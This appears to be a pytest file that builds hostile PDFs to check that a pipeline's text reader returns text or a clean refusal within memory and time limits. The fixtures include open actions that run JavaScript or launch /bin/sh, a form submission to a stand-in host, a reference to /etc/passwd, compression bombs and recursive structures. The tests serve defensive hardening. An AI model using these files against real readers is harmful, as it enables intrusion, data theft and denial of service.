"""PDF files made to do harm, built here by hand: each gives a text or a clear refusal, in bounded memory."""

from __future__ import annotations

import json
import subprocess
import sys
import zlib
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.faults.conftest import ROOT
from tests.reliability import record

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(sys.platform != "linux", reason="uses the limits of Linux"),
]
MOST_GROWN, MOST_MEMORY, MOST_SECONDS = 4_000_000, 2_000_000_000, 60
WORDS = b"BT /F1 12 Tf 72 720 Td (On 3 May 1990 Japan and Italy signed an agreement.) Tj ET"
READ = """
import json, os, resource, signal, sys
from pathlib import Path
from pipeline.errors import InputError
from pipeline.ingest.chapters import read_text_layer
from pipeline.ingest.limits import Limits

files, most_grown, most_memory, most_seconds = sys.argv[1], *map(int, sys.argv[2:])
for path in sorted(Path(files).iterdir()):
    child = os.fork()
    if child == 0:
        resource.setrlimit(resource.RLIMIT_AS, (most_memory, most_memory))
        signal.alarm(most_seconds)
        try:
            text = read_text_layer(path.read_bytes(), "pdf", limits=Limits(pdf_expanded_bytes=most_grown))[0]
            told = "text: " + text[:100]
        except InputError as error:
            told = f"refused: {error}"
        print(json.dumps([path.stem, told]), flush=True)
        os._exit(0)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status:
        print(json.dumps([path.stem, f"ended with {status}"]), flush=True)
"""
Objects = dict[int, bytes]


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def sound() -> Objects:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(WORDS),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def build(objects: Mapping[int, bytes], trailer: bytes = b"", *, prev: bytes = b"") -> bytes:
    """Put a file together from its objects, with a table of where they stand."""
    out, places = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    if prev == b"self":
        prev = b"/Prev %d" % start
    return out + b"trailer\n<< /Size %d /Root 1 0 R %s %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, prev, trailer, start,
    )  # fmt: skip


def bomb(size: int, layers: int = 1) -> bytes:
    content = b" " * size
    for _ in range(layers):
        content = zlib.compress(content, 9)
    return content


def lzw_bomb(codes: int) -> bytes:
    """Return LZW in which every code stands for one letter more than the one before."""
    bits, number = "100000000" + format(65, "09b"), 258
    for _ in range(codes):
        width = 9 if number < 511 else 10 if number < 1023 else 11 if number < 2047 else 12
        bits += format(min(number, 4095), f"0{width}b")
        number += 1
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def deep_tree(depth: int) -> Objects:
    objects = sound() | {2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>"}
    for number in range(10, 10 + depth):
        objects[number] = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (
            number - 1 if number > 10 else 2,
            number + 1,
        )
    objects[10 + depth] = objects[3]
    return objects


def pdfs() -> dict[str, bytes]:
    """Return every hostile file with its name."""
    page, image = sound()[3], b"/Type /XObject /Subtype /Image /ColorSpace /DeviceRGB /BitsPerComponent 8"
    drawn = page.replace(b"/Font", b"/XObject << /I 6 0 R >> /Font")
    script = b"<< /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\);) >>"
    huge = stream(b"x", image + b" /Width 2000000000 /Height 2000000000")
    inner = b"6 0 7 30 " + b"<< /A 1 >>" + b" " * 20 + b"[1]"
    unpacked = stream(bomb(6_000_000), b"/Type /ObjStm /N 2 /First 9 /Filter /FlateDecode")
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I 6 0 R >> >>"
    locked = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >> /ID [<00> <00>]" % (
        b"41" * 32,
        b"42" * 32,
    )
    return {
        "script at opening": build(sound() | {1: sound()[1][:-2] + b"/OpenAction " + script + b">>"}),
        "program started at opening": build(
            sound() | {1: sound()[1][:-2] + b"/OpenAction << /S /Launch /F (/bin/sh) >> >>"}
        ),
        "form sent off, page with actions": build(
            sound() | {3: page[:-2] + b"/AA << /O << /S /SubmitForm /F (http://192.0.2.1/) >> >> >>"}
        ),
        "reference to a file": build(
            sound() | {4: b"<< /Length 9 /F (/etc/passwd) /FFilter /FlateDecode >>\nstream\n\nendstream"}
        ),
        "huge image": build(sound() | {3: drawn, 4: stream(b"/I Do " + WORDS), 6: huge}),
        "image of nothing but zeros": build(
            sound()
            | {3: drawn, 4: stream(b"/I Do " + WORDS)}
            | {6: stream(bomb(6_000_000), image + b" /Width 20000 /Height 10000 /Filter /FlateDecode")}
        ),
        "form that draws itself": build(
            sound() | {3: drawn, 4: stream(b"/I Do " + WORDS), 6: stream(b"/I Do", form)}
        ),
        "huge page": build(sound() | {3: page.replace(b"612 792", b"1e30 1e30")}),
        "deep page tree": build(deep_tree(20_000)),
        "page tree in a ring": build(sound() | {2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"}),
        "a billion pages promised": build(
            sound() | {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>"}
        ),
        "negative count of pages": build(sound() | {2: b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>"}),
        "deep arrays": build(
            sound() | {1: sound()[1][:-2] + b"/X " + b"[" * 500_000 + b"]" * 500_000 + b">>"}
        ),
        "deep dictionaries": build(
            sound() | {1: sound()[1][:-2] + b"/X " + b"<</A " * 200_000 + b"1" + b">>" * 200_000 + b">>"}
        ),
        "deep nesting in a page": build(sound() | {4: stream(b"q " * 1_000_000 + WORDS)}),
        "deep arrays in a page": build(sound() | {4: stream(b"[" * 1_000_000 + WORDS)}),
        "object stream that expands": build(sound() | {9: unpacked}),
        "page that expands": build(sound() | {4: stream(bomb(6_000_000), b"/Filter /FlateDecode")}),
        "page that expands twice": build(
            sound() | {4: stream(bomb(6_000_000, 2), b"/Filter [/FlateDecode /FlateDecode]")}
        ),
        "page that expands under a short name": build(
            sound() | {4: stream(bomb(6_000_000), b"/Filter/Fl/X 1")}
        ),
        "page that expands under an escaped name": build(
            sound() | {4: stream(bomb(6_000_000), b"/Filter /#46lateDecode")}
        ),
        "page that expands under a name elsewhere": build(
            sound() | {4: stream(bomb(6_000_000), b"/Filter 8 0 R"), 8: b"/FlateDecode"}
        ),
        "page that expands written as letters": build(
            sound() | {4: stream(bomb(6_000_000).hex().encode() + b">", b"/Filter [/AHx /Fl]")}
        ),
        "page that expands by LZW": build(sound() | {4: stream(lzw_bomb(4_200), b"/Filter /LZWDecode")}),
        "page of repeated runs": build(
            sound() | {4: stream(b"\x81 " * 2_000_000, b"/Filter /RunLengthDecode")}
        ),
        "object stream within itself": build(
            sound() | {9: stream(inner, b"/Type /ObjStm /N 2 /First 9 /Extends 9 0 R")}
        ),
        "more objects than there are": build(
            sound() | {9: stream(inner, b"/Type /ObjStm /N 999999999 /First 9")}
        ),
        "locked": build(sound(), locked),
        "unknown lock": build(sound(), b"/Encrypt << /Filter /Own /V 99 >>"),
        "table that follows itself": build(sound(), prev=b"self"),
        "table that follows nothing": build(sound(), b"/Prev 99999999999"),
        "length that is itself": build(
            sound() | {4: b"<< /Length 4 0 R >>\nstream\n" + WORDS + b"\nendstream"}
        ),
        "catalog in a ring": build(sound() | {1: b"1 0 R"}),
        "pages in a ring of references": build(sound() | {2: b"8 0 R", 8: b"2 0 R"}),
        "table of a billion objects": build(sound()).replace(b"0 6\n", b"0 999999999\n"),
        "nothing but a head": b"%PDF-1.7\n",
    }


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with all of them."""
    folder = tmp_path_factory.mktemp("hostile")
    for name, content in pdfs().items():
        (folder / f"{name}.pdf").write_bytes(content)
    return folder


def test_each_gives_a_text_or_a_clear_refusal(files: Path) -> None:
    limits = map(str, (MOST_GROWN, MOST_MEMORY, MOST_SECONDS))
    ended = subprocess.run(
        [sys.executable, "-c", READ, str(files), *limits],
        cwd=ROOT, capture_output=True, text=True, check=False,
    )  # fmt: skip
    told = dict(map(json.loads, ended.stdout.splitlines()))
    number = len(list(files.iterdir()))
    assert len(told) == number, ended.stderr
    wrong = {name: answer for name, answer in told.items() if not answer.startswith(("text:", "refused: "))}
    assert wrong == {}, ended.stderr
    assert not any("192.0.2.1" in answer or "root:" in answer for answer in told.values())
    grown = {name: answer for name, answer in told.items() if "expand" in name or "zeros" in name}
    assert len(grown) == 9
    assert all("expands to more than 4,000,000 bytes" in answer for answer in grown.values()), grown
    assert "protected by a password" in told["locked"]
    assert "signed an agreement" in told["script at opening"]
    record("hostile PDF", tried=number, survived=number)


def test_one_built_the_same_way_without_harm_is_read() -> None:
    from pipeline.ingest.chapters import read_text_layer

    assert "signed an agreement" in read_text_layer(build(sound()), "pdf")[0]
